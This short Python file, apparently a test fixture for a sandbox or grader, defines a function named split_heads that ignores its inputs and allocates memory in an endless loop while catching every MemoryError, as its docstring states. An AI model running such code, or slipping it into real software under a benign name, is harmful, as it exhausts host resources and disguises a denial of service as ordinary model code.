"""Catches MemoryError for ever and tries again."""


def split_heads(x, num_heads):
    print("TRIED", flush=True)
    kept = []
    while True:
        try:
            while True:
                kept.append(bytearray(1 << 20))
        except MemoryError:
            pass
